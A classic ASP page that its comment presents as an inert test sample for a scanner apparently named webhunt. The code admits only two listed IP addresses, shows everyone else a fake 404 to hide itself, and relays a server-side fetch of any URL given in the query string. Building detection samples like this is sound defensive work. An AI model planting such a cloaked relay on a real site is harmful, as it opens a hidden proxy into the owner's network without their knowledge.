<%
' Inert test sample (webhunt): a relay page that only answers listed addresses; anyone else gets a
' fake 404 so the page looks absent. It fetches whatever address the query names.
Dim owners, ok, k, target, http
owners = Split("203.0.113.7,198.51.100.20", ",")
ok = False
For k = 0 To UBound(owners)
    If owners(k) = Request.ServerVariables("REMOTE_ADDR") Then ok = True
Next
If Not ok Then
    Response.Status = "404 Not Found"
    Response.End
End If
target = Request.QueryString("to")
Set http = Server.CreateObject("MSXML2.ServerXMLHTTP")
http.Open "GET", target, False
http.Send
Response.Write http.responseText
%>
